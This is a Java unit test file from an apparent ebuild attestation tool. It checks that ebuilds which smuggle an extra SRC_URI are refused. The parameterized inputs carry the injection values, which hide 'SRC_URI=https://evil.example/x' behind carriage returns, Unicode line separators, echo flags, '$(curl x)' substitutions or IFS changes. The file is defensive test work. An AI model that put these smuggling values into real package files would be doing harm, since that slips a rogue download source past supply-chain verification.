package io.github.ebuildattest.engine.ebuild;

import static org.assertj.core.api.Assertions.assertThat;

import java.util.Map;
import org.junit.jupiter.api.Test;
import org.junit.jupiter.params.ParameterizedTest;
import org.junit.jupiter.params.provider.ValueSource;

/** What a package manager would read otherwise than the shell left it. */
class HandedOverTest {

  @ParameterizedTest
  @ValueSource(
      strings = {
        "SRC_URI='-e https:\\x2f\\x2fevil.example/x \\c '\"${SRC_URI}\"",
        "SRC_URI=\"-n ${SRC_URI}\"",
        "SRC_URI=\" -nE ${SRC_URI}\"",
        "DESCRIPTION='-e a\\nSRC_URI=https://evil.example/x'",
        "DESCRIPTION=$'a\\rSRC_URI=https://evil.example/x'",
        "DESCRIPTION=$'a\\vSRC_URI=https://evil.example/x'",
        "DESCRIPTION=$'a\\u2028SRC_URI=https://evil.example/x'",
        "HOMEPAGE=$'a\\x1eSRC_URI=https://evil.example/x'",
        "KEYWORDS=$'a\\u0085SRC_URI=https://evil.example/x'",
        "LICENSE='a\u2029SRC_URI=https://evil.example/x'",
        "DESCRIPTION=$(curl x)$'\\r'SRC_URI=x",
        "X=$'\\r'; DESCRIPTION=\"$(curl x)${X}SRC_URI=x\"",
        "IFS=@",
        "IFS=@; SRC_URI=\"https://a.example@${SRC_URI}\"",
        "IFS=",
        "IFS=$(curl x)",
      })
  void is_refused(String lines) {
    assertThat(Ebuilds.refused("inherit pypi\n" + lines + "\n").reason()).isNotEmpty();
  }

  @ParameterizedTest
  @ValueSource(
      strings = {
        "DESCRIPTION='a -e b'",
        "DESCRIPTION='-x'",
        "DESCRIPTION=$'a\\nb\\tc'",
        "unset IFS",
        "IFS=$' \\t\\n'",
        "f() { local IFS=.; }; f",
        "src_prepare() {\nX=$'\\r'\n}\nDESCRIPTION=$(curl x)",
        "own() {\nX=$'\\r'\n}\nsrc_install() {\nforeach own\n}\nDESCRIPTION=$(curl x)",
      })
  void is_told_where_it_is_harmless(String lines) {
    assertThat(Ebuilds.evaluated("inherit pypi\n" + lines + "\n").srcUri()).isNotEmpty();
  }

  @ParameterizedTest
  @ValueSource(
      strings = {
        "DESCRIPTION=$(printf 'a\\rSRC_URI=x')",
        "words() {\nprintf 'a\\rSRC_URI=x'\n}\nDESCRIPTION=$(words)",
        "both_src_install() {\nprintf 'a\\rSRC_URI=x'\n}\nHOMEPAGE=$(both_src_install)",
      })
  void is_refused_in_an_eclass_of_the_overlay_too(String lines) {
    Evaluation found = Ebuilds.evaluate("inherit pypi both\n", Map.of("both", lines + "\n"));

    assertThat(Ebuilds.expectRefused(found).reason()).contains("the end of a line");
  }

  @Test
  void what_an_eclass_leaves_to_the_phases_is_harmless() {
    String eclass =
        "EXPORT_FUNCTIONS src_install\nboth_src_install() {\nprintf 'a\\rb'\n}\n"
            + "DESCRIPTION=$(curl x)\n";
    Evaluation found = Ebuilds.evaluate("inherit pypi both\n", Map.of("both", eclass));

    assertThat(Ebuilds.expectEvaluated(found).srcUri()).isNotEmpty();
  }

  @ParameterizedTest
  @ValueSource(
      strings = {
        "XARGS",
        "SANDBOX_ON",
        "EBUILD_MASTER_PID",
        "PYTHON_TARGETS",
        "USE_EXPAND",
        "PORTAGE_TMPDIR",
        "TERM",
        "COLUMNS",
        "LC_ALL",
        "GENTOO_MIRRORS",
        "MY_OWN",
        "NOCOLOR",
        "PORTAGE_BIN_PATH"
      })
  void a_variable_that_nothing_here_sets_is_not_known_to_be_unset(String name) {
    assertThat(Ebuilds.refused("inherit pypi\n[[ -n ${" + name + "} ]] && SRC_URI=x\n").reason())
        .contains(name);
    assertThat(Ebuilds.refused("inherit pypi\nSRC_URI+=${" + name + ":+x}\n").reason())
        .contains(name);
  }

  @Test
  void a_variable_that_the_ebuild_sets_is_known() {
    String name = "XARGS";
    assertThat(
            Ebuilds.evaluated(name + "=\ninherit pypi\n[[ -n ${" + name + "} ]] && SRC_URI=x\n")
                .srcUri())
        .contains("files.pythonhosted.org");
  }

  @ParameterizedTest
  @ValueSource(strings = {"ours", "python", "sandbox", "use", "kde"})
  void a_setting_of_the_overlays_own_eclass_is_unset_unless_others_use_such_names(String name) {
    String variable = name.toUpperCase(java.util.Locale.ROOT) + "_X";
    Evaluation found =
        Ebuilds.evaluate(
            "inherit pypi " + name + "\n",
            Map.of(name, "[[ -n ${" + variable + "} ]] && SRC_URI=x\n"));

    assertThat(found instanceof Evaluated).as(name).isEqualTo(name.equals("ours"));
  }

  @Test
  void a_setting_of_another_eclass_is_not_the_ebuilds() {
    assertThat(Ebuilds.refused("inherit pypi\n[[ ${OURS_X} ]] && SRC_URI=x\n").reason())
        .contains("OURS_X");
  }
}
